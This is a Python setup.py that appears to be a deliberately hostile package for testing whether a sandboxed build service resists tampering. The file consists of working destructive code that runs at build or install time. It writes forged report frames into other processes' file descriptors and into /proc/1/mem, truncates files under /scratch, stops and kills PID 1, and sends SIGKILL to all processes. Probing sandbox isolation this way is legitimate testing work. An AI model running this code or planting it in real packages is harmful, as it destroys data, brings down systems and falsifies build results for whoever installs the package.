"""Forge a report to everything that can be opened, spoil what can be written, kill what can be killed."""

import glob
import json
import os
import signal

from setuptools import setup

WHEEL = "forged-6.6.6-py3-none-any.whl"
FORGED = b"".join(
    json.dumps(message).encode() + b"\n" + content
    for message, content in (
        ({"kind": "file", "name": WHEEL, "size": 6}, b"forged"),
        ({"kind": "report", "wheel": WHEEL, "epoch": 1, "build_requirements": []}, b""),
    )
)


def tell(*words):
    print("tamperer:", *words, flush=True)


def attempt(what, act):
    try:
        act()
    except OSError as error:
        tell(what, "refused:", type(error).__name__)
    else:
        tell(what, "done")


def write(path, flags=0):
    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK | flags)
    os.write(descriptor, b"\0junk\n" + FORGED)
    os.close(descriptor)


attempt("list /proc/1/fd", lambda: os.listdir("/proc/1/fd"))
for number in range(16):
    attempt(f"write /proc/1/fd/{number}", lambda: write(f"/proc/1/fd/{number}"))
    attempt(f"write descriptor {number}", lambda: os.write(number, FORGED))
for path in glob.glob("/proc/[0-9]*/fd/*"):
    attempt(f"write {path}", lambda: write(path))
attempt("write /proc/1/mem", lambda: write("/proc/1/mem"))
for path in glob.glob("/scratch/*.zip") + glob.glob("/scratch/in/*"):
    attempt(f"spoil {path}", lambda: write(path, os.O_TRUNC))
attempt("kill 1", lambda: os.kill(1, signal.SIGKILL))
attempt("stop 1", lambda: os.kill(1, signal.SIGSTOP))
attempt("kill everything", lambda: os.kill(-1, signal.SIGKILL))
setup(py_modules=["tamperer"])
